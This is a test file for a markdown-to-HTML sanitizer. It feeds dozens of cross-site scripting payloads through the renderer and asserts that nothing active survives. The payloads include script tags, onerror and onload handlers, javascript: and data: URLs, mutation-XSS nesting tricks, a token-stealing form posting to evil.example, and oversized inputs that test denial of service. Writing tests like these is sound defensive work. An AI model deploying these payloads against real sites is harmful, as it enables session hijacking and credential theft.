/** Hostile texts: nothing of them runs, submits, styles or covers anything, and they cost bounded time. */
import fc from 'fast-check';
import { raw } from 'hast-util-raw';
import { describe, expect, test } from 'vitest';
import { toDocument } from '../../../../src/engine/markdown/document/read.ts';
import { urlOf } from '../../../../src/engine/markdown/document/refs.ts';
import { cleanTree, plainPage, visitElements } from '../../../../src/engine/markdown/html/clean.ts';
import { readPage, renderRead } from '../../../../src/engine/markdown/html/page.ts';
import { printHtml } from '../../../../src/engine/markdown/html/print.ts';
import { renderDocument, renderWhole } from '../../../../src/engine/markdown/html/render.ts';
import { expectCostBelow } from '../../../support/cost.ts';

function shown(markdown: string): string {
  try {
    return printHtml(
      cleanTree(renderDocument(toDocument(markdown), { place: (ref) => ({ href: urlOf(ref) }) }), (url) => url),
    );
  } catch (error) {
    if (error instanceof RangeError) return printHtml(plainPage(markdown));
    throw error;
  }
}

const ACTIVE = new Set(
  'script style iframe object embed form base link meta svg math template textarea select button frame applet video audio portal'.split(
    ' ',
  ),
);

/** What could do something, in a page as a browser takes it apart. */
function activeIn(html: string): string[] {
  const found: string[] = [];
  visitElements(
    raw({ type: 'root', children: [{ type: 'raw', value: html } as never] }) as never,
    ({ tagName, properties }) => {
      if (ACTIVE.has(tagName)) found.push(tagName);
      if (tagName === 'input' && (properties['type'] !== 'checkbox' || !properties['disabled'])) found.push('input');
      for (const [name, value] of Object.entries(properties)) {
        if (
          /^on/i.test(name) ||
          ['style', 'srcDoc', 'formAction', 'action', 'background', 'ping', 'xLinkHref'].includes(name)
        )
          found.push(name);
        if (name === 'name' && !/^tabs-\d+$/.test(String(value))) found.push(`name=${value}`);
        if (name === 'dataOwn' || name === 'dataTry') found.push(name);
        if (name === 'dataFrame' && !/^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]+$/.test(String(value)))
          found.push(`${name}=${value}`);
        if (name === 'id' && String(value).startsWith('app-')) found.push(`id=${value}`);
        if (
          ['href', 'src', 'srcSet'].includes(name) &&
          /^[\s\0-\x20]*(?!https?:|mailto:|tel:)[a-z][a-z0-9+.\s-]*:/i.test(String(value))
        )
          found.push(`${name}=${value}`);
        if (name === 'className' && (value as string[]).some((one) => !one.startsWith('doc-')))
          found.push(`class=${value}`);
      }
    },
  );
  return found;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '[a](javascript:alert(1))',
  '[a](<java\nscript:alert(1)>)',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href=" jAvAsCrIpT:alert(1)">a</a>',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">a</div>',
  '<mark style="color:red;background-color:expression(alert(1));">a</mark>',
  '<div class="app-bar app-primary" id="app-main">a</div>',
  '<img name="querySelector"><a id="app-composer-template" name="cookie">a</a>',
  '<details ontoggle=alert(1) open><summary>a</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="https://a" onclick=alert(1)>a</a>',
  '{% embed url="javascript:alert(1)" %}',
  '{% content-ref url="javascript:alert(1)" %}\n[a](javascript:alert(1))\n{% endcontent-ref %}',
  '{% file src="javascript:alert(1)" %}',
  '{% hint style="info\' onmouseover=\'alert(1)" %}\na\n{% endhint %}',
  '{% tabs %}\n{% tab title="<img src=x onerror=alert(1)>" %}\na\n{% endtab %}\n{% endtabs %}',
  '{% code title="<script>alert(1)</script>" %}\n```js\na\n```\n{% endcode %}',
  '```<script>\n</code></pre><script>alert(1)</script>\n```',
  '<a href="javascript:alert(1)" class="button primary">a</a>',
  '<table><thead><tr><th onclick="alert(1)">a</th></tr></thead><tbody><tr><td style="x" onclick="alert(1)">a</td></tr></tbody></table>',
  '<figure><img src="javascript:alert(1)" onerror="alert(1)" alt=""><figcaption>a</figcaption></figure>',
  '<picture><source srcset="javascript:alert(1)" media="(prefers-color-scheme: dark)"><img src="data:text/html,x" alt="a"></picture>',
  '$$</code><script>alert(1)</script>$$',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<p><a href="x"><div><a href="javascript:alert(1)">a',
] as const;

test('what is active is found: this test can fail', () => {
  expect(
    activeIn('<img src="javascript:1" onerror="a" style="b"><script></script><p class="app-bar" id="app-x">'),
  ).toEqual(expect.arrayContaining(['src=javascript:1', 'onError', 'style', 'script', 'class=app-bar', 'id=app-x']));
});

test.for(ATTACKS)('nothing active is left of %s', (markdown) => {
  for (const text of [
    markdown,
    `a ${markdown} b`,
    `* ${markdown.replaceAll('\n', '\n  ')}`,
    `<div>\n\n${markdown}\n\n</div>`,
  ]) {
    expect(activeIn(shown(text))).toEqual([]);
  }
});

/** Every block and attribute that takes words of a text: X stands for them. */
const PLACES = [
  'X', '# X', '## a <a id="X"></a>', '* X', '1. X', '- [x] X', '> X', '[X](a)', '[a](X)', '[a](<X>)', '[a](b "X")', '![X](a)', '![a](<X>)', '![a](b "X")',
  '`X`', '```X\na\n```', '```mermaid\nX\n```', '```js\nX\n```', '$$X$$', '$$\nX\n$$', '| X | b |\n| --- | --- |\n| X | c |', 'a[^1]\n\n[^1]: X', '[X](#user-content-fn-1)[^1]\n\n[^1]: a',
  '{% hint style="X" icon="X" %}\nX\n{% endhint %}', '{% tabs %}\n{% tab title="X" icon="X" %}\nX\n{% endtab %}\n{% endtabs %}',
  '{% stepper %}\n{% step %}\nX\n{% endstep %}\n{% endstepper %}', '{% columns %}\n{% column width="X" %}\nX\n{% endcolumn %}\n{% endcolumns %}',
  '{% code title="X" overflow="X" lineNumbers="X" %}\n```X\nX\n```\n{% endcode %}', '{% embed url="X" %}\nX\n{% endembed %}', '{% embed url="https://youtu.be/X" %}', '{% file src="X" %}\nX\n{% endfile %}',
  '{% content-ref url="X" %}\n[X](X)\n{% endcontent-ref %}', '{% include "X" %}', '{% openapi src="X" path="X" method="X" %}\nX\n{% endopenapi %}', '{% openapi-operation spec="X" path="X" method="X" %}\nX\n{% endopenapi-operation %}',
  '{% openapi-schemas spec="X" schemas="X" %}\nX\n{% endopenapi-schemas %}', '{% updates format="X" %}\n{% update date="X" tags="X" %}\nX\n{% endupdate %}\n{% endupdates %}', '{% update date="2025-01-01" tags="X,X" %}\nX\n{% endupdate %}',
  '{% prompt description="X" icon="X" %}\nX\n{% endprompt %}', '{% @mermaid/diagram content="X" %}', '{% @a/b url="X" content="X" %}', '{% unknown X="X" %}\nX\n{% endunknown %}', '{% if X %}\nX\n{% endif %}',
  '<details>\n\n<summary>X</summary>\n\nX\n\n</details>', '<figure><img src="X" alt="X" width="X" height="X"><figcaption>X</figcaption></figure>', '<picture><source srcset="X" media="(prefers-color-scheme: dark)"><img src="X" alt="X"></picture>',
  '<a href="X" class="button X" data-icon="X">X</a>', '<button type="button" class="button primary" data-action="X" data-query="X">X</button>', '<i class="fa-X">:X:</i>', '<a data-mention href="X">X</a>', '<mark style="color:X;background-color:X;">X</mark>',
  '<p align="X">X</p>', '<div id="X" class="X" title="X" style="X" data-own="X" data-try="X" data-frame="X" data-mermaid="X" data-copy="X" data-zoom="X">X</div>', '<a data-frame="X" href="X" id="X">X</a>',
  '<table data-view="cards"><thead><tr><th>X</th><th data-card-target>X</th><th data-card-cover>X</th></tr></thead><tbody><tr><td data-object-fit="X">X</td><td><a href="X">X</a></td><td><a href="X">X</a></td></tr></tbody></table>',
  '<table><thead><tr><th width="X" align="X" valign="X" data-type="X">X</th></tr></thead><tbody><tr><td>X</td></tr></tbody></table>',
] as const; // biome-ignore format: a list of texts

const PAYLOADS = [
  'javascript:alert(1)', ' JaVaScRiPt&colon;alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', "'><svg onload=alert(1)>", '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='", '</code></pre><script>alert(1)</script>', '</textarea></title></style><iframe src=x>', 'x" style="position:fixed;inset:0" y="', 'app-main', '--><script>alert(1)</script>', '</details></div></section><form action=//evil.example><input>', '<a href="javascript:alert(1)">', 'https://evil.example/" onload="x',
] as const; // biome-ignore format: a list of texts

test.for(PLACES)('no payload acts from where X is in %s', (where) => {
  for (const payload of PAYLOADS)
    for (const isPublished of [true, false]) {
      const text = where.replaceAll('X', () => payload);
      const { root, owned } = renderWhole(toDocument(text), {
        place: (ref) => ({ href: urlOf(ref), title: payload, description: payload, emoji: payload, icon: payload }),
        embed: () => ({ title: payload, site: payload, icon: payload, html: `<iframe src="${payload}">` }),
        action: () => payload,
        isPublished,
      });
      const html = printHtml(cleanTree(root, (url) => url, owned));
      expect(activeIn(html), text).toEqual([]);
    }
});

test('attacks in any mixture leave nothing active', () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '</',
      '<!--',
      '-->',
      '\n\n',
      '`',
      '{%',
      '%}',
      '&lt;',
      '<b>',
      '</p>',
      '| ',
      '<table>',
      '<td>',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      expect(activeIn(shown(pieces.join('')))).toEqual([]);
    }),
    { numRuns: 100 },
  );
});

test.each([
  ['50 KB of lists that end in marks overflowed the stack', '<ul>{{</b>'.repeat(5000)],
  ['the same in tables', '<table><td></b>'.repeat(3000)],
  ['elements in elements, with end tags of others', '<div></p></b></i>'.repeat(20_000)],
  ['an end tag within a table closes nothing outside of it', `${'<b>'.repeat(390)}${'<table><td></b>'.repeat(380)}`],
])('never throws: %s', (_, markdown) => {
  const html = printHtml(cleanTree(renderDocument(toDocument(markdown), { place: () => undefined }), () => undefined));
  expect(html.length).toBeGreaterThan(100);
});

describe('little HTML does not become much', () => {
  const size = (markdown: string): number => shown(markdown).length;

  test('marks that are not closed are opened again in each block that follows, but not by the hundred', () => {
    const marks = Array.from({ length: 300 }, (_, i) => `<b title=${i}>`).join('');
    for (const blocks of ['<p>x</p>'.repeat(5000), '\n\nx'.repeat(5000), '\n\n* x\n\n<p>'.repeat(2000)]) {
      const text = `<div><p>${marks}</p>${blocks}`;
      expect(size(text)).toBeLessThan(40 * text.length);
    }
  });

  test('links and marks that people forgot to close are shown', () => {
    const links = Array.from({ length: 60 }, (_, i) => `<a name="a${i}">\n\n## A ${i}\n\nb\n\n`).join('');
    expect(shown(links)).not.toContain('&#x3C;a');
    expect(shown(`<div>${'<b>a<p>b</p>'.repeat(200)}</div>`)).not.toContain('&#x3C;b>');
  });
});

test('a long value that is asked for again and again comes into the page until there is no more room', async () => {
  const markdown = '<code class="expression">space.vars.a</code>\n\n'.repeat(300);
  const scope = { space: { vars: { a: 'x'.repeat(10_000) } } };
  const none = new Map<string, never>();
  const { pieces } = await renderRead(readPage({ markdown }), { places: none, includes: none, included: none, scope });
  const size = pieces.flatMap(({ parts }) => parts).reduce((sum, part) => sum + String(part).length, 0);
  expect(size).toBeGreaterThan(900_000);
  expect(size).toBeLessThan(1_100_000);
});

test('texts that nest deep or are long cost bounded time', () => {
  for (const hostile of [
    '<div>'.repeat(30_000),
    '<b><p>'.repeat(10_000),
    `${'> '.repeat(5000)}a`,
    '*'.repeat(50_000),
    `<a href="${'x'.repeat(200_000)}">a</a>`,
    '<p>\n\n'.repeat(5000),
    '[a](b)'.repeat(10_000),
    `<div\n${'<a'.repeat(100_000)}`,
    `<div\n${Array.from({ length: 60_000 }, (_, i) => `a${i}`).join(' ')}>`,
    `<div>${'<a href="'.repeat(50_000)}`,
  ]) {
    let html = '';
    expectCostBelow(5000, () => (html = shown(hostile)), hostile.slice(0, 20));
    expect(activeIn(html)).toEqual([]);
  }
});
